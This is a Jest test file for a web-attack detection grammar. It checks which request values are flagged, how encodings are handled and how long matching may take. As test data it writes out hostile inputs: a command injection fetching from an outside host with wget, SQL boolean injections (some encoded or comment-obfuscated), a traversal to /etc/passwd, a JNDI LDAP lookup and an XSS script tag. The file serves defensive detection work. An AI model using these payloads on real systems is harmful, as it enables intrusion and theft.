// Each grammar entry fires on its hostile texts and not on its innocent ones; no innocent text fires anything.
import { describe, expect, test } from '@jest/globals';
import { decodedOnce } from '../../src/analyse/decode.ts';
import { matchGrammar, mayMatch, type ValueKind } from '../../src/analyse/grammar-match.ts';
import { GRAMMAR } from '../../src/analyse/patterns/grammar.ts';
import type { GrammarEntry } from '../../src/analyse/patterns/grammar-entry.ts';

const kindOf = (entry: GrammarEntry): ValueKind => (entry.id === 'upload-exec' ? 'upload' : 'argument');

test('all entries have different ids', () => {
  expect(new Set(GRAMMAR.map((entry) => entry.id)).size).toBe(GRAMMAR.length);
});

describe.each(GRAMMAR.map((entry) => [entry.id, entry] as const))('%s', (id, entry) => {
  test.each(entry.hostile)('is seen in %j', (text) => {
    expect(mayMatch(text) || kindOf(entry) === 'upload').toBe(true);
    expect(matchGrammar(text, kindOf(entry))?.ids).toContain(id);
  });

  test.each(entry.innocent)('is not seen in %j', (text) => {
    expect(entry.re.test(text)).toBe(false);
    expect(entry.re.test(decodedOnce(text))).toBe(false);
  });
});

describe('innocent texts of all entries', () => {
  const mentions = GRAMMAR.filter((entry) => entry.cls === 'mention').map((entry) => entry.id);
  const texts = [...new Set(GRAMMAR.flatMap((entry) => entry.innocent))];
  test.each(texts)('%j has no grammar beyond a mention in a sentence', (text) => {
    expect(mentions).toEqual(expect.arrayContaining([...(matchGrammar(text, 'argument')?.ids ?? [])]));
  });
});

describe('what the quick look may skip', () => {
  test('is never a text with grammar: words of all hostile texts, recombined', () => {
    const words = [
      ...new Set(GRAMMAR.flatMap((entry) => entry.hostile).flatMap((text) => text.split(/[^\w.@-]+/))),
    ];
    for (const a of words) {
      for (const b of words) {
        for (const text of [`${a} ${b}`, `/${a}/${b}`, `${a} /${b}`]) {
          if (mayMatch(text)) continue;
          for (const entry of GRAMMAR) {
            if (entry.id !== 'upload-exec' && entry.re.test(text)) throw new Error(`${entry.id} in ${text}`);
          }
        }
      }
    }
    expect(words.length).toBeGreaterThan(200);
  });
});

describe('where a text stands', () => {
  test('a mention does not count in a path, nor a break of SQL in a cookie', () => {
    expect(matchGrammar('x y; wget http://198.51.100.9/a', 'argument')).not.toBeNull();
    expect(matchGrammar("1' OR '1'='1", 'cookie')).toBeNull();
    expect(matchGrammar("1' OR '1'='1", 'argument')).not.toBeNull();
    expect(matchGrammar('../../../../etc/passwd', 'cookie')?.families).toEqual(['lfi']);
    expect(matchGrammar('../../../../etc/passwd', 'agent')).toBeNull();
    expect(matchGrammar('${jndi:ldap://198.51.100.1/a}', 'agent')?.ids).toContain('jndi');
    expect(matchGrammar('report.php', 'argument')).toBeNull();
  });

  test('encodings that an application undoes later are undone once', () => {
    expect(matchGrammar('1%27%20OR%20%271%27=%271', 'argument')?.ids).toContain('sql-bool');
    expect(matchGrammar('&lt;script&gt;alert(1)&lt;/script&gt;', 'argument')?.ids).toContain('xss-script');
    expect(matchGrammar("1'/*x*/or/*y*/'1'='1", 'argument')?.ids).toContain('sql-bool');
  });
});

test('a long hostile text is looked at for a bounded time and length', () => {
  for (const unit of ["' or ", '<a ', '../', ';', '((((', 'a=', '/*', '%27', 'select (', '$({']) {
    const text = unit.repeat(200_000 / unit.length);
    expect(() => matchGrammar(text, 'argument')).not.toThrow();
  }
  expect(matchGrammar(`${'a '.repeat(2500)}' OR '1'='1`, 'argument')?.ids).toContain('sql-bool');
  expect(matchGrammar(`${'a '.repeat(40_000)}' OR '1'='1`, 'argument')).toBeNull();
});
